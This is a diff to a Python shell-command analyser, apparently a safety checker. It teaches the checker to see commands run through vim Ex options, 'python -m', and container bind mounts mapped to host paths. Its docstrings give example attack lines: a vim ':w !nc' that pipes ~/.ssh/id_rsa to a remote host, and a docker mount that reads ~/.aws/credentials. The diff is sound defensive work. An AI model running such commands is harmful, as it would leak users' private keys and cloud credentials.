@@ -1130,8 +1130,9 @@ class _Walker:
             inner = _container_command(prog, list(args))
             if inner:
                 # docker run/exec, kubectl exec/run, podman, lxc, multipass: the command runs (in a
-                # container or VM, with the network and whatever is mounted) — judge it
-                self.nested_shell(" ".join(_sh_quote(a) for a in inner), via, depth, f"{prog} {args[0]}", inherit=d)
+                # container or VM, with the network and whatever is mounted) — judge it, with the
+                # container's paths of bind mounts spelled as the host's (`-v ~:/h … cat /h/.aws/x`)
+                self.nested_shell(_host_view(prog, list(args), inner), via, depth, f"{prog} {args[0]}", inherit=d)
         opt_args = list(args)
         if prog == "git" and (self.env.get("GIT_CONFIG_COUNT") or self.env.get("GIT_CONFIG_PARAMETERS")):
             # exported earlier on the line (a prefix on the command itself is read where it is set)
@@ -1258,6 +1259,8 @@ class _Walker:
         if prog in ("xxd", "b64decode") or prog.startswith("base") or prog in ("rev", "cat", "tr"):
             return  # output depends on stdin: computed in feed()
         code = interpreters.inline_code(prog, tuple(args))
+        if code is None and any(w.endswith(" -m") for w in d.wrappers):
+            code = interpreters.module_code(prog, tuple(args))  # `python -m timeit -s CODE`
         if code is not None:
             lang, text = code
             folded = self.script(lang, text, _join_via(via, f"{prog} {'-e' if lang != 'python' else '-c'}"), depth, d)
@@ -1856,6 +1859,7 @@ def _option_commands(prog: str, args: "list[str] | tuple[str, ...]") -> list[str
                     out.append(a.split("=", 1)[1])
                 elif a == opt and i + 1 < n:
                     out.append(args[i + 1])
+    vim_cmds: list[str] = []
     if prog == "git":
         alias = _git_alias_definition(args)
         if alias:
@@ -1887,15 +1891,16 @@ def _option_commands(prog: str, args: "list[str] | tuple[str, ...]") -> list[str
             out.append(nxt if a == "--compress-program" else a.split("=", 1)[1])  # run to (de)compress temp files
         elif prog in ("zip",) and a in ("-TT", "--unzip-command") and nxt:
             out.append(nxt)
-        elif prog in ("vim", "vi", "nvim", "view", "ex", "vimdiff"):
-            cmd = nxt if a in ("-c", "--cmd") else a[1:] if a.startswith("+") else ""
-            cmd = cmd.lstrip(":")
-            if cmd.startswith("!"):
-                out.append(cmd[1:])
-            elif cmd.startswith(("call system(", "call  system(")):
-                out.append(cmd.split("(", 1)[1].rstrip(")").strip("'\""))
+        elif prog in _VIMS:
+            # -c CMD, --cmd CMD, +CMD, and -c at the end of a cluster (`ex -sc CMD`, `vim -Nc CMD`)
+            cmd = nxt if a in ("-c", "--cmd") or re.fullmatch(r"-[A-Za-z]{1,4}c", a) else \
+                a[1:] if a.startswith("+") else ""
+            if cmd:
+                vim_cmds.append(cmd)
         elif prog in ("man",) and a in ("-P", "--pager") and nxt:
             out.append(nxt)
+    if vim_cmds:
+        out += _vim_commands(vim_cmds, _vim_files(args))
     if prog == "git":
         out += _git_commands(args)
     if prog in ("make", "gmake", "bmake"):
@@ -1908,6 +1913,74 @@ def _option_commands(prog: str, args: "list[str] | tuple[str, ...]") -> list[str
         if rest:
             out.append(" ".join(rest))
     return out[:8]
+
+
+_VIMS = frozenset({"vim", "vi", "nvim", "view", "ex", "vimdiff", "gvim", "rvim", "evim"})
+_VIM_FILTER = re.compile(r"^(?:[%.$]|\d+(?:,\d+)?|'<,'>)?\s*!(.+)$")
+_VIM_READ_WRITE = re.compile(r"^(?:r|re|rea|read|w|wr|wri|writ|write)!?\s*!(.+)$")
+_VIM_TERMINAL = re.compile(r"^(?:ter|term|termi|termin|termina|terminal)!?\s+(?:\+\+\S+\s+)*(.+)$")
+_VIM_LANGS = ((re.compile(r"^(?:py3|python3|pyx|pythonx|py|python)\s+(.+)$", re.S), "python3 -c"),
+              (re.compile(r"^lua\s+(.+)$", re.S), "lua -e"), (re.compile(r"^perl?\s+(.+)$", re.S), "perl -e"),
+              (re.compile(r"^rub(?:y)?\s+(.+)$", re.S), "ruby -e"))
+_VIM_SYSTEM = re.compile(r"""\b(?:system|systemlist|jobstart|termopen)\s*\(\s*(?:\[\s*)?(?:"((?:[^"\\]|\\.)*)"|'([^']*)')""")
+
+
+def _vim_commands(cmds: "list[str]", files: "list[str]") -> list[str]:
+    """Shell commands (and interpreter one-liners) the Ex commands given to vim/ex/nvim run, in order:
+    `!CMD`, `%!CMD`, `r !CMD`, `terminal CMD`, `py3|lua|perl|ruby CODE`, `system('CMD')` anywhere;
+    `w !CMD` pipes the buffer — the file opened, and what `r !…` read into it — into CMD
+    (`vim -c 'w !nc h 9' ~/.ssh/id_rsa` is `cat ~/.ssh/id_rsa | nc h 9`). `silent`/`exe` prefixes
+    and `|`-joined commands are read too (a bang, filter or language command takes the rest)."""
+    out: list[str] = []
+    buffer = " ".join(_word(f) for f in files[:8])
+    buffer = f"cat {buffer}" if buffer else ""
+    for cmd in cmds[:16]:
+        for m in _VIM_SYSTEM.finditer(cmd):
+            out.append(m.group(1) if m.group(1) is not None else m.group(2))
+        rest = cmd
+        for _ in range(16):
+            c = rest.strip().lstrip(":").strip()
+            c = re.sub(r"^(?:sil(?:ent)?!?|exe(?:cute)?|norm(?:al)?!?)\s+", "", c)
+            if not c:
+                break
+            m = _VIM_READ_WRITE.match(c)
+            if m:
+                if c[0] == "r":
+                    buffer = f"{{ {buffer}; {m.group(1).strip()}; }}" if buffer else m.group(1).strip()
+                    out.append(m.group(1).strip())
+                else:
+                    out.append(f"{buffer} | {m.group(1).strip()}" if buffer else m.group(1).strip())
+                break
+            m = _VIM_FILTER.match(c) or _VIM_TERMINAL.match(c)
+            if m:
+                out.append(m.group(1).strip())
+                break
+            lang = next(((pat.match(c), runner) for pat, runner in _VIM_LANGS if pat.match(c)), None)
+            if lang is not None:
+                out.append(f"{lang[1]} {_sh_quote(lang[0].group(1))}")
+                break
+            if "|" not in c:
+                break
+            rest = c.split("|", 1)[1]
+    return [c for c in out if c.strip()][:8]
+
+
+_VIM_VALUED = frozenset({"-c", "--cmd", "-S", "-u", "-U", "-i", "-T", "-t", "-q", "-w", "-W", "-s", "--startuptime",
+                         "--listen", "--servername", "-r", "--remote", "--remote-silent", "--remote-send"})
+
+
+def _vim_files(args: "list[str] | tuple[str, ...]") -> list[str]:
+    """The files vim/ex opens (its buffer): the words that are not options or option values."""
+    out: list[str] = []
+    skip = False
+    for a in args:
+        if skip:
+            skip = False
+        elif a in _VIM_VALUED or re.fullmatch(r"-[A-Za-z]{1,4}c", a):
+            skip = True
+        elif not a.startswith(("-", "+")):
+            out.append(a)
+    return out
 
 
 _CONTAINER_TOOLS = frozenset({"docker", "podman", "nerdctl", "kubectl", "oc", "lxc", "multipass", "docker-compose",
@@ -1994,6 +2067,68 @@ def _container_command(prog: str, args: "list[str]") -> "list[str] | None":
     if entry:
         cmd = [entry] + cmd
     return cmd or None
+
+
+def _bind_mounts(args: "list[str]") -> "tuple[list[tuple[str, str]], str]":
+    """(host path, container path) of each bind mount of `docker|podman run|create …`, and the
+    working directory (`-w`). Named volumes (no `/`, `~` or `.` at the start) are not the host's files."""
+    mounts: list[tuple[str, str]] = []
+    workdir = ""
+    for k, a in enumerate(args):
+        nxt = args[k + 1] if k + 1 < len(args) else ""
+        val = ""
+        if a in ("-v", "--volume", "--mount", "-w", "--workdir"):
+            val = nxt
+        elif a.startswith(("--volume=", "--mount=", "--workdir=")):
+            val = a.split("=", 1)[1]
+        elif a.startswith(("-v", "-w")) and len(a) > 2 and not a.startswith("--"):
+            val = a[2:]
+        else:
+            continue
+        if a.startswith(("-w", "--workdir")):
+            workdir = val
+        elif a.startswith("--mount"):
+            kv = dict(p.split("=", 1) for p in val.split(",") if "=" in p)
+            src = kv.get("source") or kv.get("src") or ""
+            dst = kv.get("target") or kv.get("destination") or kv.get("dst") or ""
+            if kv.get("type", "volume") == "bind" and src and dst:
+                mounts.append((src, dst))
+        else:
+            parts = val.split(":")
+            if len(parts) >= 2 and parts[0].startswith(("/", "~", ".")) and parts[1].startswith("/"):
+                mounts.append((parts[0], parts[1]))
+    return [(src, dst.rstrip("/")) for src, dst in mounts if dst.rstrip("/")][:32], workdir
+
+
+def _host_view(prog: str, args: "list[str]", inner: "list[str]") -> str:
+    """The container's command line with its bind-mounted paths spelled as the host's: `docker run -v
+    ~:/h alpine cat /h/.aws/credentials` reads `~/.aws/credentials` (also inside `sh -c '…'`), and a
+    working directory that is a mount is `cd` into first."""
+    text = " ".join(_sh_quote(a) for a in inner)
+    if prog not in ("docker", "podman", "nerdctl", "docker-compose", "podman-compose") or not any(
+            a.startswith(("-v", "--volume", "--mount")) for a in args):
+        return text
+    mounts, workdir = _bind_mounts(args[: len(args) - len(inner)])
+    if not mounts:
+        return text
+    mounts.sort(key=lambda m: -len(m[1]))
+    pattern = re.compile(r"(?<![\w.~/-])(" + "|".join(re.escape(dst) for _, dst in mounts) + r")(?=[/\s'\"|;&)<>]|$)")
+    host = dict((dst, src) for src, dst in reversed(mounts))
+
+    def swap(m: "re.Match[str]") -> str:
+        src = host[m.group(1)]
+        return "" if src == "/" and m.string.startswith("/", m.end()) else src  # (-v /:/host: /host/etc is /etc)
+
+    def one(word: str) -> str:
+        mapped = pattern.sub(swap, word)
+        return _word(mapped) if mapped != word and mapped.startswith("~") else _sh_quote(mapped)
+
+    text = " ".join(one(a) for a in inner)
+    if workdir:
+        wd = pattern.sub(swap, workdir)
+        if wd != workdir:
+            text = f"cd {_word(wd)} && {text}"
+    return text
 
 
 _GIT_VALUED = frozenset({"-C", "-c", "--git-dir", "--work-tree", "--namespace", "--exec-path", "--config-env",
